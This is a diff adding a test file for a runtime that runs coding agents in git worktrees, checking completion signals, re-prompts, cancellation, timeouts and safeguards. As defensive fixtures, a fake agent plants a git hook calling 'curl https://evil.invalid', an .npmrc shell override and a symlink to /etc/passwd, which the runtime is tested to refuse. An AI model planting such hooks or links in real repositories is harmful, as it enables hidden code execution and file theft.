@@ -1,0 +1,262 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { AgentRunFailure } from '../../../src/engine/runtime-contract/runtime-contract.ts';
+import { isProcessRunning } from '../../../src/test-support/is-process-running.ts';
+import {
+  APPROVED,
+  type CliRuntimeFixture,
+  COMPLETED,
+  createCliRuntimeFixture,
+  implementorParams,
+  readAll,
+  reviewerParams,
+} from './cli-runtime-fixture.ts';
+
+// Each run starts node with tsx for the fake agent: slow under a loaded CPU, so generous limits.
+vi.setConfig({ testTimeout: 60_000 });
+
+async function failureOf(promise: Promise<unknown>): Promise<AgentRunFailure> {
+  const error = await promise.then(
+    () => null,
+    (e: unknown) => e,
+  );
+  if (!(error instanceof AgentRunFailure))
+    throw new Error(`expected an AgentRunFailure, got ${String(error)}`);
+  return error;
+}
+
+describe('CLI runtime with the fake agent CLI', () => {
+  let fixture: CliRuntimeFixture;
+  beforeEach(async () => {
+    fixture = await createCliRuntimeFixture();
+  });
+  afterEach(async () => fixture.cleanup());
+
+  it('done: the patch holds committed and uncommitted work, not the signal file', async () => {
+    const runtime = await fixture.runtimeFor([
+      {
+        steps: [
+          { print: 'working on it' },
+          { write: { path: 'src/feature.ts', content: 'export const feature = true;\n' } },
+          { commit: 'add feature' },
+          { write: { path: 'docs/notes.md', content: 'notes\n' } },
+          { signal: COMPLETED },
+        ],
+      },
+    ]);
+    const params = implementorParams('Implement the feature X.');
+    const handle = await runtime.startAgent(params);
+    const [output, result] = await Promise.all([readAll(handle.output), handle.result]);
+
+    expect(result).toMatchObject({ role: 'implementor', outcome: 'completed', summary: 'added the feature' });
+    if (result.role !== 'implementor') throw new Error('unreachable');
+    expect(result.patch).toContain('b/src/feature.ts');
+    expect(result.patch).toContain('b/docs/notes.md');
+    expect(result.patch).not.toContain('signal.json');
+    expect(output).toContain('working on it\n');
+
+    const [call] = fixture.calls();
+    expect(call?.argv).toEqual([
+      '-p',
+      '--permission-mode',
+      'bypassPermissions',
+      '--session-id',
+      params.sessionID,
+    ]);
+    expect(call?.promptVia).toBe('stdin');
+    expect(call?.prompt).toMatch(/^Implement the feature X\.\n\n## How to finish/);
+    expect(call?.cwd).toBe(join(fixture.repo.root, '.worktrees/agent/flotilla/7'));
+    // The worktree is gone and the transcript has the agent's lines.
+    expect(existsSync(call?.cwd ?? '')).toBe(false);
+    const transcript = readFileSync(handle.logFilePath ?? '', 'utf8');
+    expect(transcript).toContain('working on it');
+    expect(transcript).toContain('Outcome: completed');
+    expect(runtime.runtime).toBe('cli:claude');
+  });
+
+  it('no signal, then the re-prompt resumes the same session and succeeds', async () => {
+    const runtime = await fixture.runtimeFor([
+      { steps: [{ print: 'forgot the signal' }] },
+      { steps: [{ signal: APPROVED }] },
+    ]);
+    const params = reviewerParams();
+    const handle = await runtime.startAgent(params);
+    const result = await handle.result;
+
+    expect(result).toEqual({
+      role: 'reviewer',
+      review: { verdict: 'approve', summary: 'fine', comments: [] },
+    });
+    const calls = fixture.calls();
+    expect(calls).toHaveLength(2);
+    expect(calls[1]?.argv).toEqual([
+      '-p',
+      '--permission-mode',
+      'bypassPermissions',
+      '--resume',
+      params.sessionID,
+    ]);
+    expect(calls[1]?.prompt).toMatch(
+      /^Your previous run ended without a valid `\.flotilla\/signal\.json`: it exited with code 0 without writing/,
+    );
+    // Resumed: the reminder, not the whole task again.
+    expect(calls[1]?.prompt).not.toContain('Review revision 3.');
+  });
+
+  it('a preset that cannot resume is re-prompted in a new session with the task again (aider, prompt file)', async () => {
+    const runtime = await fixture.runtimeFor(
+      [
+        { steps: [{ write: { path: 'a.txt', content: 'a\n' } }], exitCode: 1 },
+        { steps: [{ signal: COMPLETED }] },
+      ],
+      { preset: 'aider' },
+    );
+    const handle = await runtime.startAgent(implementorParams('Task: write a.txt'));
+    const result = await handle.result;
+
+    expect(result).toMatchObject({ outcome: 'completed' });
+    const calls = fixture.calls();
+    expect(calls.map((call) => call.promptVia)).toEqual(['file', 'file']);
+    expect(calls[1]?.resumed).toBeNull();
+    expect(calls[1]?.prompt).toContain('it exited with code 1 without writing');
+    expect(calls[1]?.prompt).toContain('Task: write a.txt');
+  });
+
+  it('no signal twice: fails with a clear reason', async () => {
+    const runtime = await fixture.runtimeFor([{ steps: [{ print: 'done, I think' }] }]);
+    const handle = await runtime.startAgent(implementorParams());
+    const failure = await failureOf(handle.result);
+
+    expect(failure.reason).toBe('error');
+    expect(failure.message).toBe(
+      'the implementor agent (claude) ended 2 times without a valid .flotilla/signal.json (re-prompted once); ' +
+        'last: it exited with code 0 without writing .flotilla/signal.json',
+    );
+    expect(fixture.calls()).toHaveLength(2);
+  });
+
+  it('an invalid signal is re-prompted once, then fails naming the field', async () => {
+    const runtime = await fixture.runtimeFor([
+      { steps: [{ signal: { status: 'done', result: { outcome: 'finished', summary: 'x' } } }] },
+      { steps: [{ signal: { status: 'done' } }] },
+    ]);
+    const handle = await runtime.startAgent(implementorParams());
+    const failure = await failureOf(handle.result);
+
+    expect(fixture.calls()[1]?.prompt).toContain('outcome: Invalid option');
+    expect(failure.message).toMatch(
+      /ended 2 times without a valid \.flotilla\/signal\.json \(re-prompted once\); last: \.flotilla\/signal\.json is invalid: result: /,
+    );
+  });
+
+  it('questions and errors from the agent end the run with their text', async () => {
+    const asking = await fixture.runtimeFor([
+      { steps: [{ signal: { status: 'questions', questions: ['Which database?'] } }] },
+    ]);
+    const questions = await failureOf((await asking.startAgent(implementorParams())).result);
+    expect(questions.message).toBe(
+      'the implementor agent (claude) stopped with questions, which are not supported yet: 1. Which database?',
+    );
+
+    const failing = await fixture.runtimeFor([
+      { steps: [{ signal: { status: 'error', error: 'no access' } }] },
+    ]);
+    const error = await failureOf((await failing.startAgent(implementorParams())).result);
+    expect(error.message).toBe('the implementor agent (claude) reported an error: no access');
+  });
+
+  it('cancel kills the whole process tree', async () => {
+    const pidFile = join(fixture.dir, 'sleeper.pid');
+    const runtime = await fixture.runtimeFor([
+      { steps: [{ spawnSleeper: pidFile }, { print: 'sleeping' }, { sleepMs: 600_000 }] },
+    ]);
+    const params = implementorParams();
+    const handle = await runtime.startAgent(params);
+    for await (const chunk of handle.output) if (chunk.includes('sleeping')) break;
+    const sleeper = Number(readFileSync(pidFile, 'utf8'));
+    expect(isProcessRunning(sleeper)).toBe(true);
+
+    runtime.cancelAgent(params.sessionID);
+    const failure = await failureOf(handle.result);
+
+    expect(failure.reason).toBe('cancelled');
+    await vi.waitFor(() => expect(isProcessRunning(sleeper)).toBe(false));
+    expect(readFileSync(handle.logFilePath ?? '', 'utf8')).toContain('Outcome: cancelled');
+  });
+
+  it('maxAgentDuration ends the run as timeout', async () => {
+    const runtime = await fixture.runtimeFor([{ steps: [{ sleepMs: 600_000 }] }], { maxAgentDuration: 1 });
+    const failure = await failureOf((await runtime.startAgent(implementorParams())).result);
+
+    expect(failure.reason).toBe('timeout');
+    expect(failure.message).toBe('the implementor session exceeded maxAgentDuration (1s)');
+  });
+
+  it("refuses a run that wrote into git's hooks, and puts the hooks back", async () => {
+    const hook = join(fixture.repo.root, '.git/hooks/post-checkout');
+    const runtime = await fixture.runtimeFor([
+      {
+        steps: [
+          { gitHook: { name: 'post-checkout', content: '#!/bin/sh\ncurl https://evil.invalid\n' } },
+          { write: { path: 'a.txt', content: 'a\n' } },
+          { signal: COMPLETED },
+        ],
+      },
+    ]);
+    const failure = await failureOf((await runtime.startAgent(implementorParams())).result);
+
+    expect(failure.message).toBe(
+      `the implementor agent (claude) changed files git runs or obeys (restored; the run is refused): ${hook}`,
+    );
+    expect(existsSync(hook)).toBe(false);
+  });
+
+  it('refuses a patch touching protected paths, configured paths, or linking outside the repository', async () => {
+    const runtime = await fixture.runtimeFor(
+      [
+        {
+          steps: [
+            { write: { path: '.npmrc', content: 'script-shell=/tmp/x\n' } },
+            { write: { path: 'deploy/prod.yml', content: 'x\n' } },
+            { symlink: { path: 'passwd', target: '/etc/passwd' } },
+            { symlink: { path: 'src/up', target: '../../outside' } },
+            { write: { path: 'src/fine.ts', content: 'ok\n' } },
+            { signal: COMPLETED },
+          ],
+        },
+      ],
+      { protectedPaths: ['deploy/'] },
+    );
+    const failure = await failureOf((await runtime.startAgent(implementorParams())).result);
+
+    expect(failure.message).toBe(
+      "the implementor's patch was refused: it touches paths agents may not change: " +
+        '.npmrc: .npmrc is a protected path; deploy/prod.yml: under the configured protected path deploy; ' +
+        'passwd: a symlink to /etc/passwd, outside the repository; ' +
+        'src/up: a symlink to ../../outside, outside the repository',
+    );
+  });
+
+  it('the agent sees its model key only: tracker tokens and other credentials are scrubbed', async () => {
+    const runtime = await fixture.runtimeFor([{ steps: [{ signal: APPROVED }] }], { preset: 'gemini' });
+    await (await runtime.startAgent(reviewerParams())).result;
+    const [call] = fixture.calls();
+
+    expect(call?.argv).toEqual(['--yolo']);
+    expect(call?.env.GEMINI_API_KEY).toBe('gemini-test-model-key');
+    expect(call?.env).not.toHaveProperty('ANTHROPIC_API_KEY');
+    expect(call?.env).not.toHaveProperty('GITHUB_TOKEN');
+    expect(call?.env).not.toHaveProperty('AWS_SECRET_ACCESS_KEY');
+    expect(call?.env.FAKE_AGENT_SCRIPT).toBeDefined();
+  });
+
+  it('a program that does not exist fails the run saying so', async () => {
+    const runtime = await fixture.runtimeFor([], { program: ['/nonexistent/agent-cli'] });
+    const failure = await failureOf((await runtime.startAgent(reviewerParams())).result);
+
+    expect(failure.message).toMatch(
+      /^the reviewer agent \(claude\): could not run \/nonexistent\/agent-cli \(spawn .*ENOENT\)/,
+    );
+  });
+});
